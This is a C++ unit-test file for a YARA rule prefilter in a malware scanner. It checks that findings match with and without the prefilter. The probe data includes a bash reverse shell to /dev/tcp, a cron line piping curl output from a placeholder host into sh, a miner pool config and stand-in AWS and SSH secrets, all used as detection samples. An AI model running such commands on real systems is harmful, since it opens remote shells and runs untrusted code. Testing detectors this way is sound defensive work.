#include "detect/yara_prefilter.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <random>

#include "detect/yara_rules.h"
#include "layer/path.h"
#include "tests/testing.h"

namespace customs::detect {
namespace {

std::unique_ptr<YaraPrefilter> MustBuild(const std::string& text) {
  auto p = YaraPrefilter::Build({{"test.yar", text}});
  EXPECT_TRUE(p.ok()) << p.status().ToString();
  return p.ok() ? std::move(*p) : nullptr;
}

struct Probe {
  std::string data;
  std::string path = "usr/bin/tool";
  int64_t mode = 0755;
  int64_t window_offset = 0;
};

bool May(const YaraPrefilter& p, const Probe& probe) {
  auto scratch = p.NewScratch();
  EXPECT_TRUE(scratch.ok());
  YaraPrefilter::Input in;
  in.data = {reinterpret_cast<const uint8_t*>(probe.data.data()), probe.data.size()};
  in.filepath = probe.path;
  in.filename = layer::BaseName(probe.path);
  in.filemode = probe.mode;
  in.window_offset = probe.window_offset;
  return p.MayMatch(in, **scratch);
}

// libyara's own answer, for comparison: the rules matched with and without
// the prefilter in front.
std::vector<std::string> Matched(const YaraRules& rules, const Probe& probe) {
  layer::FileInfo info;
  info.path = probe.path;
  info.size = probe.data.size();
  info.mode = static_cast<uint32_t>(probe.mode);
  std::vector<model::Detection> out;
  Status s =
      rules.Scan(info, {reinterpret_cast<const uint8_t*>(probe.data.data()), probe.data.size()},
                 static_cast<uint64_t>(probe.window_offset), out);
  EXPECT_TRUE(s.ok()) << s.ToString();
  std::vector<std::string> ids;
  for (const auto& d : out) ids.push_back(d.rule_id + " " + d.evidence);
  return ids;
}

TEST(YaraPrefilterTest, TextStringsAndTheirModifiers) {
  auto p = MustBuild(R"(
rule plain { strings: $a = "needle\x00\"x" condition: $a }
rule caseless { strings: $a = "Haystack" nocase condition: $a }
rule utf16 { strings: $a = "wide" wide condition: $a }
)");
  ASSERT_NE(p, nullptr);
  EXPECT_EQ(p->PrefilteredStrings(), 3u);
  EXPECT_FALSE(May(*p, {"nothing to see"}));
  EXPECT_TRUE(May(*p, {std::string("a needle\0\"x here", 16)}));
  EXPECT_FALSE(May(*p, {"a needle here"}));
  EXPECT_TRUE(May(*p, {"HAYSTACK"}));
  EXPECT_TRUE(May(*p, {std::string("w\0i\0d\0e\0", 8)}));
  EXPECT_FALSE(May(*p, {"wide"}));  // wide alone: not the ASCII form
}

TEST(YaraPrefilterTest, HexStringsNeedTheirLiteralRuns) {
  // Every match holds "MZ\x90\x00" and one of the two alternatives.
  auto p = MustBuild(R"(
rule hex { strings: $h = { 4D 5A 90 00 [2-4] ( 01 02 03 | 04 05 06 ) ?? 3? } condition: $h }
rule short { strings: $h = { 4D 5A ?? ?? } condition: $h and filesize > 1000 }
)");
  ASSERT_NE(p, nullptr);
  EXPECT_EQ(p->UnfilteredStrings(), 1u);  // "MZ" alone is too short to look for
  EXPECT_TRUE(May(*p, {std::string("MZ\x90\x00..\x04\x05\x06\x00\x3a", 11)}));
  EXPECT_FALSE(May(*p, {std::string("MZ\x90\x00..\x04\x05", 8)}));
  EXPECT_FALSE(May(*p, {std::string("..\x01\x02\x03", 5)}));
  EXPECT_TRUE(May(*p, {std::string(2000, 'x')}));  // short: size alone decides
}

TEST(YaraPrefilterTest, RegularExpressionsNeedTheirLiterals) {
  auto p = MustBuild(R"(
rule space { strings: $r = /key\s=\s{,2}v/ condition: $r }
rule alternatives { strings: $r = /(curl|wget)\s[^\n]{1,64}\|\s?(ba)?sh/ nocase condition: $r }
)");
  ASSERT_NE(p, nullptr);
  EXPECT_EQ(p->UnfilteredStrings(), 0u);
  EXPECT_TRUE(May(*p, {"key\v=v"}));  // YARA's \s includes \v
  EXPECT_TRUE(May(*p, {"key =  v"}));
  EXPECT_FALSE(May(*p, {"key : v"}));
  EXPECT_TRUE(May(*p, {"WGET http://x | sh"}));
  EXPECT_FALSE(May(*p, {"wget http://x > out"}));  // no "|" before a shell
  EXPECT_FALSE(May(*p, {"echo x | sh"}));          // neither curl nor wget
}

TEST(YaraPrefilterTest, ConditionsOnSizeLeadingBytesAndExternals) {
  auto p = MustBuild(R"(
rule pe {
  condition: uint16(0) == 0x5A4D and filesize >= 64 and uint32(0x3C) <= filesize - 4 and
    uint32(uint32(0x3C)) == 0x00004550
}
rule lib { condition: filename matches /^liblzma\.so\.5\.6\.[01]$/ }
rule cron { condition: filepath == "etc/crontab" and window_offset == 0 }
)");
  ASSERT_NE(p, nullptr);
  std::string pe(128, '\0');
  pe[0] = 'M';
  pe[1] = 'Z';
  pe[0x3C] = 0x40;
  pe.replace(0x40, 4, std::string("PE\0\0", 4));
  EXPECT_TRUE(May(*p, {pe}));
  std::string not_pe = pe;
  not_pe[0x40] = 'X';
  EXPECT_FALSE(May(*p, {not_pe}));
  EXPECT_FALSE(May(*p, {pe.substr(0, 40)}));  // filesize >= 64 fails
  EXPECT_TRUE(May(*p, {"x", "usr/lib/liblzma.so.5.6.1"}));
  EXPECT_FALSE(May(*p, {"x", "usr/lib/liblzma.so.5.4.1"}));
  EXPECT_TRUE(May(*p, {"x", "etc/crontab"}));
  EXPECT_FALSE(May(*p, {"x", "etc/crontab", 0644, 1 << 24}));
}

TEST(YaraPrefilterTest, CountsQuantifiersLoopsAndPrivateRules) {
  auto p = MustBuild(R"(
private rule is_elf { condition: uint32(0) == 0x464C457F }
rule elf_with_a { strings: $a = "alpha" condition: is_elf and $a }
rule pair { strings: $k = "key" $e = "EXAMPLE" condition: #k > #e }
rule sum { strings: $x = "xx1" $y = "yy2" condition: (#x + #y) >= 3 }
rule two { strings: $s1 = "one" $s2 = "two" $s3 = "three" condition: 2 of ($s*) }
rule at0 { strings: $m = "HEAD" condition: for any of ($m) : ( $ at 0 ) }
)");
  ASSERT_NE(p, nullptr);
  EXPECT_FALSE(May(*p, {"\x7f"
                        "ELF no letters"}));  // the private rule alone reports nothing
  EXPECT_TRUE(May(*p, {"\x7f"
                       "ELF alpha"}));
  EXPECT_FALSE(May(*p, {"alpha"}));  // not an ELF file
  EXPECT_TRUE(May(*p, {"the key"}));
  EXPECT_TRUE(May(*p, {"xx1"}));
  EXPECT_TRUE(May(*p, {"three"}));
  EXPECT_TRUE(May(*p, {"HEAD"}));
  EXPECT_FALSE(May(*p, {"nothing of those"}));
}

TEST(YaraPrefilterTest, WhatItCannotModelMayAlwaysHold) {
  auto p = MustBuild(R"(
import "math"
rule negated { strings: $a = "a-string" condition: not $a }
)");
  ASSERT_NE(p, nullptr);
  EXPECT_TRUE(May(*p, {"anything"}));
  p = MustBuild(R"(
import "math"
rule entropy { condition: math.entropy(0, filesize) > 7.2 }
)");
  ASSERT_NE(p, nullptr);
  EXPECT_TRUE(May(*p, {"anything"}));
  p = MustBuild(R"(
rule xored { strings: $a = "secret" xor condition: $a }
rule loop { condition: for all i in (0 .. filesize) : ( uint8(i) == 0 ) }
)");
  ASSERT_NE(p, nullptr);
  EXPECT_EQ(p->UnfilteredStrings(), 1u);
  EXPECT_TRUE(May(*p, {"anything"}));
}

TEST(YaraPrefilterTest, RulesItCannotReadLeaveItOff) {
  EXPECT_FALSE(YaraPrefilter::Build({{"a.yar", "include \"b.yar\"\n"}}).ok());
  EXPECT_FALSE(YaraPrefilter::Build({{"a.yar", "rule x { condition: $a }"}}).ok());
  EXPECT_FALSE(YaraPrefilter::Build({{"a.yar", "rule x { condition: ((((1)))"}}).ok());
  std::string deep =
      "rule x { condition: " + std::string(5000, '(') + "true" + std::string(5000, ')') + " }";
  EXPECT_FALSE(YaraPrefilter::Build({{"a.yar", deep}}).ok());
  std::string chain = "rule x { strings: $a = \"abc\" condition: $a";
  for (int i = 0; i < 100'000; ++i) chain += " and $a";
  EXPECT_FALSE(YaraPrefilter::Build({{"a.yar", chain + " }"}}).ok());
  // libyara compiles what the prefilter cannot read; scans then go to libyara alone.
  auto rules = YaraRules::Compile(
      {{"a.yar", "rule x { strings: $a = \"abc\" condition: $a and 1 << 2 == 4 }"}});
  ASSERT_TRUE(rules.ok()) << rules.status().ToString();
  EXPECT_TRUE((*rules)->PrefilterState().starts_with("on:")) << (*rules)->PrefilterState();
}

TEST(YaraPrefilterTest, BuiltinRulesAreReadWhole) {
  auto rules = YaraRules::Compile(BuiltinRules());
  ASSERT_TRUE(rules.ok()) << rules.status().ToString();
  const std::string& state = (*rules)->PrefilterState();
  EXPECT_TRUE(state.starts_with("on:")) << state;
  // Every string of theirs has literals to look for.
  auto p = YaraPrefilter::Build(BuiltinRules());
  ASSERT_TRUE(p.ok());
  EXPECT_EQ((*p)->UnfilteredStrings(), 0u) << state;
  EXPECT_GT((*p)->PrefilteredStrings(), 200u) << state;
  EXPECT_FALSE(May(**p, {"#!/bin/sh\necho hello\n", "usr/bin/hello"}));
}

// The built-in rules with and without the prefilter report the same on
// stand-ins for each category and on random splices of the rules' own text.
TEST(YaraPrefilterTest, SameFindingsWithAndWithoutThePrefilter) {
  auto with = YaraRules::Compile(BuiltinRules());
  auto without = YaraRules::Compile(BuiltinRules(), {.prefilter = false});
  ASSERT_TRUE(with.ok() && without.ok());
  std::vector<Probe> probes;
  std::string eicar =
      std::string("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR") + "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
  probes.push_back({eicar, "tmp/eicar.com", 0644});
  probes.push_back({"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", "etc/cron.d/job", 0644});
  probes.push_back({"* * * * * root curl -fsSL http://x.example/a.sh | sh\n", "etc/crontab"});
  probes.push_back(
      {"{\"pools\": [{\"url\": \"stratum+tcp://pool.example:3333\", \"user\": "
       "\"4\", \"pass\": \"x\"}], \"donate-level\": 1, \"algo\": \"rx/0\"}",
       "opt/config.json"});
  probes.push_back(
      {"AWS_SECRET_ACCESS_KEY=abcdefghijklmnopqrstuvwxyz0123456789ABCD\n"
       "AWS_ACCESS_KEY_ID=AKIAQWERTYUIOPASDFGH\n",
       "app/.env"});
  probes.push_back(
      {"-----BEGIN OPENSSH PRIVATE "
       "KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n",
       "root/.ssh/id"});
  probes.push_back({"", "usr/lib/x86_64-linux-gnu/liblzma.so.5.6.1"});
  std::string pe(4096, '\0');
  pe[0] = 'M';
  pe[1] = 'Z';
  pe[0x3C] = 0x40;
  pe.replace(0x40, 4, std::string("PE\0\0", 4));
  probes.push_back({pe, "app/setup.exe"});
  // Splices: pieces of the rule text (its strings) between random bytes.
  std::mt19937 rng(7);
  std::string text;
  for (const auto& source : BuiltinRules()) text += source.text;
  for (int i = 0; i < 400; ++i) {
    std::string data;
    if (rng() % 3 == 0)
      data = rng() % 2 ? std::string(
                             "\x7f"
                             "ELF")
                       : std::string("MZ");
    int pieces = 1 + static_cast<int>(rng() % 6);
    for (int k = 0; k < pieces; ++k) {
      size_t at = rng() % text.size(), len = 4 + rng() % 60;
      data += text.substr(at, len);
      for (int b = static_cast<int>(rng() % 8); b > 0; --b) data += static_cast<char>(rng());
    }
    probes.push_back({data, i % 5 == 0 ? "etc/cron.d/x" : "srv/file" + std::to_string(i)});
  }
  size_t matched = 0;
  for (const auto& probe : probes) {
    auto a = Matched(**with, probe), b = Matched(**without, probe);
    EXPECT_EQ(a, b) << probe.path << ": " << probe.data.substr(0, 200);
    if (b.empty() && &probe - probes.data() < 8)
      ADD_FAILURE() << "stand-in unmatched: " << probe.path;
    matched += b.empty() ? 0 : 1;
  }
  EXPECT_GE(matched, 8u);  // the stand-ins at least
}

// Every file of a Debian tree, both ways.
TEST(YaraPrefilterTest, SameFindingsOverADebianTree) {
  CUSTOMS_REQUIRE_IMAGE(tree, "rootfs/debian");
  auto with = YaraRules::Compile(BuiltinRules());
  auto without = YaraRules::Compile(BuiltinRules(), {.prefilter = false});
  ASSERT_TRUE(with.ok() && without.ok());
  size_t files = 0;
  for (const auto& entry : std::filesystem::recursive_directory_iterator(tree)) {
    if (!entry.is_regular_file() || entry.is_symlink() || entry.file_size() > (16u << 20)) continue;
    Probe probe{testing::ReadWholeFile(entry.path().string()),
                std::filesystem::relative(entry.path(), tree).string(), 0644};
    auto a = Matched(**with, probe), b = Matched(**without, probe);
    EXPECT_EQ(a, b) << probe.path;
    ++files;
  }
  EXPECT_GT(files, 1000u);
}

}  // namespace
}  // namespace customs::detect
